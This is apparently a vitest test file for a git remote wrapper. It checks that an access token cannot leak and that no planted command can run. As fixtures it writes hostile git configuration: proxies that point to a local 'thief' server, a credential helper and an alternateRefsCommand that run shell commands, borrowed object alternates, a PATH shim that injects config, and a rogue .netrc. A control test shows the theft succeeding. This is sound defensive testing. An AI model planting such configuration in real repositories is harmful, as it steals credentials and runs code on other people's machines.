// A process that holds the credential reads nothing that somebody else could have written.

import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { appendFile, chmod, mkdir, readdir, writeFile } from "node:fs/promises";
import { delimiter, join } from "node:path";
import { promisify } from "node:util";
import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { systemClock } from "../../../src/core/base/clock.ts";
import { createGit } from "../../../src/worker/git/command/git.ts";
import { Remote } from "../../../src/worker/git/remote/remote.ts";
import { commitToRemote, GitFixture, IDENTITY, type RepositoryFixture, sh, valueOf } from "./git-fixture.ts";
import { GitServer } from "./git-server.ts";

const signal = new AbortController().signal;
const TOKEN = "a-credential-nobody-may-see";
const BASIC = `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`;

describe("A talk with the remote", () => {
  let fixture: GitFixture;
  let web: RepositoryFixture;
  let server: GitServer;
  let thief: GitServer;
  let transportDirectory: string;

  beforeEach(async () => {
    fixture = await GitFixture.create();
    web = await fixture.repository();
    server = await GitServer.start(join(fixture.directory, "remotes"), TOKEN);
    thief = await GitServer.start(join(fixture.directory, "remotes"), TOKEN);
    transportDirectory = join(fixture.directory, "transport.git");
  });

  afterEach(async () => {
    await server[Symbol.asyncDispose]();
    await thief[Symbol.asyncDispose]();
    await fixture[Symbol.asyncDispose]();
  });

  function open({ path, token = TOKEN }: { path?: string; token?: string | null } = {}): Promise<Remote> {
    const home = join(fixture.directory, "home");
    const git = createGit({
      path: path ?? process.env["PATH"] ?? "",
      home,
      identity: IDENTITY,
      clock: systemClock,
      redact: (text) => text,
    });
    const access = { baseUrl: server.url, token };
    const { repository, commonDirectory } = web;
    return Remote.open({ git, access, repository, commonDirectory, transportDirectory });
  }

  const ran = () => existsSync(join(fixture.directory, "ran"));
  const stolen = () => thief.requests.filter(({ authorization }) => authorization === BASIC);

  /** This configuration leads a talk to the thief, and runs a program. */
  function plant(): string {
    const url = `${server.url}/acme/web.git`;
    return [
      `[http]\n\tproxy = ${thief.url}\n\tsslVerify = false\n\tcookieFile = ${fixture.directory}/cookies`,
      `[http "${url}"]\n\tproxy = ${thief.url}`,
      `[http "${server.url}"]\n\tproxy = ${thief.url}`,
      `[remote "${url}"]\n\tproxy = ${thief.url}`,
      `[core]\n\talternateRefsCommand = "touch ${fixture.directory}/ran; #"\n\thooksPath = ${fixture.directory}/hooks`,
      `[credential]\n\thelper = "!touch ${fixture.directory}/ran"\n`,
    ].join("\n");
  }

  async function lend(): Promise<void> {
    const other = join(fixture.directory, "lender");
    sh(fixture.directory, "clone", "-q", web.bare, other);
    await writeFile(join(other, ".git", "config"), plant(), { flag: "a" });
    await writeFile(join(web.commonDirectory, "objects", "info", "alternates"), `${join(other, ".git", "objects")}\n`);
  }

  it("is led nowhere by what was left in the directory of talks, and runs nothing", async () => {
    const remote = await open();
    await mkdir(transportDirectory, { recursive: true });
    sh(transportDirectory, "init", "-q", "--bare");
    await appendFile(join(transportDirectory, "config"), plant());
    await lend();
    await commitToRemote(web, fixture.directory, "main", { "new.txt": "new\n" });

    const fetched = valueOf(await remote.fetch(["main"], signal));
    valueOf(await remote.push({ branch: "agent/issue-7", sha: fetched.get("main") ?? "", expected: null }, signal));

    expect(thief.requests).toEqual([]);
    expect(ran()).toBe(false);
    expect(server.requests.some(({ authorization }) => authorization === BASIC)).toBe(true);
  });

  it("loses its credential to the same configuration where it is read, so the test above proves something", async () => {
    const gitDirectory = join(fixture.directory, "planted.git");
    sh(fixture.directory, "init", "-q", "--bare", gitDirectory);
    await appendFile(join(gitDirectory, "config"), plant());
    await lend();
    await commitToRemote(web, fixture.directory, "main", { "new.txt": "new\n" });
    const header = `http.${server.url}/.extraHeader=Authorization: ${BASIC}`;
    const options = { env: { PATH: process.env["PATH"], GIT_DIR: gitDirectory } };
    const git = (...gitArguments: string[]) =>
      promisify(execFile)("git", ["-c", header, ...gitArguments], options).catch(() => undefined);

    await git("ls-remote", `${server.url}/acme/web.git`);
    const objects = join(web.commonDirectory, "objects");
    await promisify(execFile)("git", ["fetch", "-q", web.bare, "main"], {
      env: { ...options.env, GIT_OBJECT_DIRECTORY: objects },
    });

    expect(stolen()).not.toEqual([]);
    expect(ran()).toBe(true);
  });

  it("holds also against who writes into its directory between our writing and git's reading", async () => {
    const remote = await open({ path: await plantingPath() });
    await lend();
    await commitToRemote(web, fixture.directory, "main", { "new.txt": "new\n" });

    const fetched = valueOf(await remote.fetch(["main"], signal));
    valueOf(await remote.push({ branch: "agent/issue-7", sha: fetched.get("main") ?? "", expected: null }, signal));

    expect(existsSync(join(fixture.directory, "planted"))).toBe(true);
    expect(thief.requests).toEqual([]);
    expect(ran()).toBe(false);
  });

  it("takes its proxy from the operator's variables and from nowhere else", async () => {
    const home = join(fixture.directory, "home");
    const networkVariables = { http_proxy: thief.url };
    const path = process.env["PATH"] ?? "";
    const git = createGit({
      path,
      home,
      identity: IDENTITY,
      clock: systemClock,
      redact: (text) => text,
      networkVariables,
    });
    const remote = await Remote.open({
      ...web,
      git,
      access: { baseUrl: "http://127.0.0.1:9", token: TOKEN },
      transportDirectory,
    });

    await remote.heads(["main"], signal);

    expect(thief.requests.map(({ path: asked }) => asked)).toContain(
      "http://127.0.0.1:9/acme/web.git/info/refs?service=git-upload-pack",
    );
  });

  it("logs in with nothing that a `.netrc` in the home of git says", async () => {
    const remote = await open({ token: null });
    await writeFile(join(fixture.directory, "home", ".netrc"), "machine 127.0.0.1 login mallory password x\n");

    await remote.head("main", signal);

    expect(server.requests.length).toBeGreaterThan(0);
    expect(server.requests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
  });

  it("leaves no directory behind", async () => {
    const remote = await open();

    await Promise.all([remote.head("main", signal), remote.fetch(["main"], signal), remote.head("none", signal)]);

    expect(await readdir(transportDirectory)).toEqual([]);
  });

  /** Makes a PATH whose `git` writes into its git directory when that is one of ours for a talk, then is git. */
  async function plantingPath(): Promise<string> {
    const { stdout } = await promisify(execFile)("sh", ["-c", "command -v git"]);
    const bin = join(fixture.directory, "bin");
    await mkdir(bin);
    await writeFile(join(fixture.directory, "plant"), plant());
    await writeFile(
      join(bin, "git"),
      `#!/bin/sh\ncase "$GIT_DIR" in ${transportDirectory}/*) cat ${fixture.directory}/plant >> "$GIT_DIR/config"; touch ${fixture.directory}/planted;; esac\nexec ${stdout.trim()} "$@"\n`,
    );
    await chmod(join(bin, "git"), 0o755);
    return [bin, process.env["PATH"] ?? ""].join(delimiter);
  }
});
